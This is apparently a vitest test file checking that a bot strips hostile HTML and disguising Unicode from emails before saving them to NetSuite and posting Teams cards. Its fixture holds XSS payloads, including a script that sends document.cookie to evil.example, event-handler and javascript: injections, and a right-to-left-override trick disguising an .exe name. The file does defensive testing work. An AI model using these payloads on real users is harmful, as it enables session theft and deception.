import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Verb } from '../../../bot/src/teams/actions.js';
import { type Harness, startHarness } from '../../helpers/harness.js';
import { click, emailId, netsuiteMessages } from '../autopilot/kit.js';

const HOSTILE =
  '<p onmouseover="steal()">Order <b>1042</b> is late.<script>fetch("https://evil.example/"+document.cookie)</script></p>' +
  '<table><tr><td>Widget</td><td>3</td></tr></table>' +
  '<a href="javascript:alert(1)">track</a> <a href="https://contoso.com/orders/1042">order</a>' +
  '<img src="x" onerror="alert(2)"><img src="cid:image001.png@01DA">';

/** F4 and F6 of issue 11: hostile email content reaches neither NetSuite nor the card as it came. */
describe('an HTML email saved to NetSuite', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness();
    await h.watch('support@contoso.com');
    h.sandbox.graph.deliver({
      to: ['support@contoso.com'],
      from: 'ana@fabrikam.com',
      subject: 'Hostile HTML',
      body: HOSTILE,
      bodyType: 'html',
    });
    await h.settle();
  });
  afterAll(async () => h?.close());

  it('keeps the formatting, tables and safe links, and nothing that runs', async () => {
    const id = await emailId(h, 'Hostile HTML');
    await click(h, Verb.save, { emailId: id, records: 'contact:201' });
    await h.settle();
    const [saved] = netsuiteMessages(h, 'Hostile HTML');
    const body = String(saved?.fields.message ?? '');
    expect(body).toContain('<b>1042</b>');
    expect(body).toContain('<td>Widget</td>');
    expect(body).toContain('href="https://contoso.com/orders/1042"');
    expect(body).toContain('2 images embedded in this email were left out');
    for (const bad of ['<script', 'onmouseover', 'onerror', 'javascript:', 'cid:', 'evil.example']) {
      expect(body, bad).not.toContain(bad);
    }
  });

  it('posts a card whose text carries no bidi override or zero-width character (F6)', async () => {
    h.sandbox.graph.deliver({
      to: ['support@contoso.com'],
      from: 'ana@fabrikam.com',
      fromName: 'Ana\u200B Ruiz',
      subject: 'Invoice \u202Egnp.exe',
    });
    await h.settle();
    const card = [...h.connector.cards().values()].map((c) => JSON.stringify(c)).find((c) => c.includes('gnp.exe'));
    expect(card).toBeDefined();
    expect(card).toContain('Invoice gnp.exe');
    expect(card).not.toMatch(/\\u202e|\\u200b|[\u202A-\u202E\u2066-\u2069\u200B]/i);
  });
});
